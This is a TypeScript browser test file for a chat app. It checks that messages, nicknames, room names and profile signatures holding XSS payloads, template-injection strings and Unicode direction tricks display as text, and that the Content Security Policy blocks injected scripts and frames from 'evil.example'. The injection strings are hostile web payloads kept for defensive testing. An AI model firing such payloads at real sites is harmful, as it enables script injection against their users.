import { expect } from 'vitest'
import { dialogue } from './dialogue.ts'
import type { Tab } from './tab.ts'

/** Each is harmless as text and harmful as anything else. */
const PAYLOADS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '"><svg/onload=window.hacked=1>',
  '<a href="javascript:window.hacked=1">press me</a>',
  'javascript:window.hacked=1',
  '<style>body { display: none }</style>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} $t(app.name) {{name}}',
  '__proto__',
  'constructor',
  '\u202egnp.exe \u202dleft to right',
  '\u2067ending an isolate that was never begun\u2069\u2069\u2069',
  'zero\u200bwidth\u200djoiner\ufeffmark',
  `Z\u0351\u036b\u0343${'\u0300\u0316\u0321\u0345'.repeat(40)}algo`,
  `word${'x'.repeat(600)}`,
  '﷽'.repeat(40),
  '👩‍👩‍👧‍👦'.repeat(60),
  'مرحبا بالعالم 123 abc',
  'https://example.org/<script>window.hacked=1</script>?q="onmouseover="window.hacked=1',
  'https://раура1.com@example.org:80/%00',
] as const

async function isUnharmed({ page, chat }: Tab): Promise<void> {
  expect(await page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined()
  expect(await page.locator('#root :is(script, style, iframe, svg[onload], img[src=x], [onerror], a[href^="javascript:" i])').count()).toBe(
    0,
  )
  const { wide, outside } = await page.evaluate(() => {
    const log = document.querySelector('#messages')
    const frame = log?.getBoundingClientRect()
    const outer = [...(log?.querySelectorAll('article > div:last-child > :last-child') ?? [])].filter((bubble) => {
      const { left, right } = bubble.getBoundingClientRect()
      return !frame || left < frame.left || right > frame.right
    })
    return {
      wide: document.documentElement.scrollWidth > innerWidth || (log ? log.scrollWidth > log.clientWidth : true),
      outside: outer.map((bubble) => bubble.textContent?.slice(0, 40)),
    }
  })
  expect(wide).toBe(false)
  expect(outside).toEqual([])
  await chat.input.waitFor()
}

dialogue('what somebody writes is text, whatever it is', async ({ alice, bob, room }) => {
  const dialogs: string[] = []
  for (const { page } of [alice, bob]) {
    page.on('dialog', async (dialog) => {
      dialogs.push(dialog.message())
      await dialog.dismiss()
    })
  }
  await bob.opens(room.title)
  await alice.opens(room.title)
  for (const payload of PAYLOADS) {
    await alice.sends(payload)
    await bob.sees(payload)
    await isUnharmed(bob)
  }
  await bob.page.setViewportSize({ width: 320, height: 568 })
  await isUnharmed(bob)
  await bob.reloads()
  await bob.sees(...PAYLOADS.slice(-3))
  await isUnharmed(bob)
  expect(dialogs).toEqual([])
})

dialogue('a nickname and the name of a room are text too', async ({ alice, member }) => {
  const names = [
    '<img src=x onerror=hacked=1>',
    '"><script>hacked=1</script>',
    '{{name}} $t(app.name)',
    'ﷺ﷽ \u0300\u0301',
    'W'.repeat(32),
    '\u202eecila',
  ]
  for (const [index, nickname] of names.entries()) {
    const evil = await member(`evil-${index}`, { nickname }).catch((error: unknown) => {
      // The server may refuse it; then nobody is called so.
      expect(String(error)).toContain('account.nickname-invalid')
    })
    if (!evil) continue
    const room = await evil.hasCreated(nickname)
    await alice.hasJoined(room)
    await evil.hasWritten(room, 'hello')
    const direct = await evil.hasOpenedDirectWith(alice)
    await evil.hasWritten(direct, 'hello')
    await alice.list.previews(nickname, 'hello')
    await alice.list.row(nickname).first().click()
    await alice.chat.isOpen(nickname)
    await alice.sees('hello')
    await isUnharmed(alice)
    await evil.goesAway()
  }
})

dialogue('a name that turns the writing around turns nothing but itself', async ({ alice, bob, room, member }) => {
  void bob
  const turner = await member('turner', { nickname: 'abc\u202edef' }).catch((error: unknown) => {
    expect(String(error)).toContain('account.nickname-invalid')
  })
  if (!turner) return
  await turner.hasJoined(room)
  await alice.opens(room.title)
  const line = alice.chat.log.getByText('joined the room').last()
  await line.waitFor()
  const order = await line.evaluate((element) => {
    const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT)
    const leftOf = (word: string): number => {
      walker.currentNode = element
      for (let node = walker.nextNode(); node; node = walker.nextNode()) {
        const at = node.textContent?.lastIndexOf(word) ?? -1
        if (at < 0) continue
        const range = document.createRange()
        range.setStart(node, at)
        range.setEnd(node, at + word.length)
        return range.getBoundingClientRect().left
      }
      return Number.NaN
    }
    return { joined: leftOf('joined'), room: leftOf('room') }
  })
  expect(order.joined).toBeLessThan(order.room)
})

dialogue('what somebody says of themself is text too', async ({ alice, bob, room }) => {
  await bob.opens(room.title)
  await bob.members.row(room.title, 'Alice').waitFor()
  for (const signature of PAYLOADS.filter((one) => one.length <= 100 && /[<\u202e\u2067]/.test(one))) {
    const answer = await alice.context.request.patch('/api/account', { data: { signature } })
    if (!answer.ok()) continue
    const { signature: kept } = (await answer.json()) as { signature: string }
    await bob.members.row(room.title, 'Alice').getByRole('button').click()
    await bob.page.getByRole('dialog').getByText(kept.trim().replace(/\s+/g, ' ')).waitFor()
    await isUnharmed(bob)
    await bob.page.keyboard.press('Escape')
    await bob.page.getByRole('dialog').waitFor({ state: 'detached' })
  }
})

dialogue('should a script get into the page all the same, the policy stops it', async ({ bob }) => {
  bob.overlooks(/Content Security Policy|violates the following/)
  const stopped = await bob.page.evaluate(async () => {
    const seen: string[] = []
    const enough = new Promise<void>((resolve) => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (seen.push(effectiveDirective) === 4) resolve()
      })
    })
    const add = (name: string, attributes: Record<string, string>, text = ''): void => {
      const element = document.createElement(name)
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value)
      element.textContent = text
      document.body.append(element)
    }
    add('script', {}, 'window.hacked = 1')
    add('script', { src: 'https://evil.example/hacked.js' })
    add('img', { src: '/icon.svg', onload: 'window.hacked = 1' })
    add('iframe', { src: 'https://evil.example/' })
    await enough
    return seen.toSorted()
  })
  expect(stopped).toEqual(['frame-src', 'script-src-attr', 'script-src-elem', 'script-src-elem'])
  expect(await bob.page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined()
})
